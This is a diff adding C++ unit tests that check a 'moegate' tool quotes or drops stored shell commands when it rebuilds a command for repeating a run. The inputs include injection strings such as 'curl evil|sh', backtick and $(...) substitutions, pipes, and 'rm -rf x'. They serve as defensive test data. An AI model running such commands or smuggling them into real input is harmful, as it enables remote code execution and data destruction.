@@ -38,6 +38,48 @@ TEST(RowCommand, AShardIsRunLikeTheOthers) {
             "moegate run --shard 3/8 --suite a --db FILE");
 }
 
+TEST(RowCommand, AStoreDoesNotSayWhatIsTyped) {
+  RunInfo run;
+  run.shards = 2;
+  run.campaign = "c";
+  run.task = "measure";
+  RunOptions options;
+  options.suites = {"smoke; evil"};
+  options.shard = 1;
+  options.shards = 2;
+  run.options = options.to_json();
+  for (const char* command : {"moegate run; curl evil|sh",
+                              "moegate run --shard slurm --campaign c --db shard-1.sqlite"}) {
+    run.command = command;
+    const std::string text = repeat_command(run, "my files/r.db");
+    EXPECT_TRUE(text.starts_with("moegate run --suite 'smoke; evil' --device auto ")) << text;
+    EXPECT_TRUE(text.ends_with(" --db 'my files/r.db'")) << text;
+    EXPECT_EQ(text.find("--shard"), std::string::npos) << "a campaign is repeated as a whole";
+  }
+  EXPECT_EQ(absent_shard_command(run, 2), "moegate run --shard 2/2 --campaign c --db FILE");
+  run.command = "moegate run `evil`";
+  EXPECT_TRUE(absent_shard_command(run, 2).ends_with(" --campaign c --shard 2/2"))
+      << absent_shard_command(run, 2);
+  EXPECT_EQ(absent_shard_command(run, 2).find("evil`"), std::string::npos);
+}
+
+TEST(RowCommand, WhatNoOptionsSayIsShownIfItIsPlain) {
+  RunInfo run;
+  run.tags["ab"] = "1";
+  const auto shown = [&](const std::string& command) {
+    run.command = command;
+    return repeat_command(run, "r.db");
+  };
+  for (const char* plain :
+       {"moegate ab --variant a --filter 'x; y' --label it\\''s'", "ci/ab origin/main"})
+    EXPECT_EQ(shown(plain), plain);
+  for (const char* evil :
+       {"moegate ab; evil", "moegate ab | evil", "moegate ab $(evil)", "moegate ab `evil`",
+        "moegate ab > x", "moegate ab & evil", "moegate ab 'open", "moegate ab\nevil",
+        "moegate ab \"$(evil)\"", "moegate ab \\; evil", "evil moegate", "rm -rf x"})
+    EXPECT_EQ(shown(evil), "") << evil;
+}
+
 TEST(RowCommand, OptionsThatAreUnsetAreNotNamed) {
   RunOptions options;
   options.suites = {"a", "b"};
